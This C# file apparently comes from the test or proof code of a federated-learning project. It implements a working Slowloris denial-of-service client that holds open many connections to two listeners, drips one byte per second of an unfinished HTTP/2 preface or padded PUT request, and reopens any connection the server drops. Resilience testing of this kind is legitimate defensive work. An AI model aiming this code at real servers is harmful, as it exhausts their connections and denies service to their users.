using System.Net;
using System.Net.Sockets;
using System.Text;

namespace FedLearn.Proofs.Networks;

/// <summary>
/// Connections that each send one byte a second of a request that never ends, half of them to each listener. One that the coordinator
/// closes is opened again.
/// </summary>
internal sealed class SlowLoris : IAsyncDisposable
{
    // What a client of HTTP/2 says first, then the header of a frame of settings that promises more than comes.
    private static readonly byte[] s_calls = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, 0, 0x3f, 0, 4, 0, 0, 0, 0, 0];
    private static readonly byte[] s_vectors = Encoding.ASCII.GetBytes("PUT /" + new string('a', 2000));

    private readonly CancellationTokenSource _stop = new();
    private readonly Drip[] _drips;
    private readonly Task _dripping;

    private SlowLoris(Drip[] drips)
    {
        _drips = drips;
        _dripping = DripAsync();
    }

    /// <summary>The connections that are open now.</summary>
    public int Open => _drips.Count(d => d.IsOpen);

    /// <summary>How often one was opened again.</summary>
    public int Reopened => _drips.Sum(d => d.Opened - 1);

    /// <summary>Opens all connections, and returns when each has sent its first byte.</summary>
    public static async Task<SlowLoris> StartAsync(Uri calls, Uri vectors, int connections)
    {
        var drips = Enumerable.Range(0, connections)
            .Select(n => n % 2 == 0 ? new Drip(calls, s_calls) : new Drip(vectors, s_vectors)).ToArray();
        foreach (var drip in drips)
        {
            await drip.SendAsync(CancellationToken.None).ConfigureAwait(false);
        }

        return new SlowLoris(drips);
    }

    public async ValueTask DisposeAsync()
    {
        await _stop.CancelAsync().ConfigureAwait(false);
        await _dripping.ConfigureAwait(ConfigureAwaitOptions.SuppressThrowing);
        Array.ForEach(_drips, d => d.Dispose());
        _stop.Dispose();
    }

    private async Task DripAsync()
    {
        using var second = new PeriodicTimer(TimeSpan.FromSeconds(1));
        while (await second.WaitForNextTickAsync(_stop.Token).ConfigureAwait(false))
        {
            foreach (var drip in _drips)
            {
                await drip.SendAsync(_stop.Token).ConfigureAwait(false);
            }
        }
    }

    private sealed class Drip(Uri target, byte[] script) : IDisposable
    {
        private Socket? _socket;
        private int _next;

        public int Opened { get; private set; }

        public bool IsOpen => _socket is not null;

        public async Task SendAsync(CancellationToken cancellationToken)
        {
            try
            {
                if (_socket is null)
                {
                    _socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
                    _next = 0;
                    await _socket.ConnectAsync(IPAddress.Parse(target.Host), target.Port, cancellationToken).ConfigureAwait(false);
                    Opened++;
                }

                if (_socket.Poll(0, SelectMode.SelectRead) && _socket.Available == 0)
                {
                    throw new SocketException((int)SocketError.ConnectionReset);
                }

                await _socket.SendAsync(new[] { _next < script.Length ? script[_next] : (byte)'a' }, cancellationToken).ConfigureAwait(false);
                _next++;
            }
            catch (SocketException)
            {
                Dispose();
            }
        }

        public void Dispose()
        {
            _socket?.Dispose();
            _socket = null;
        }
    }
}
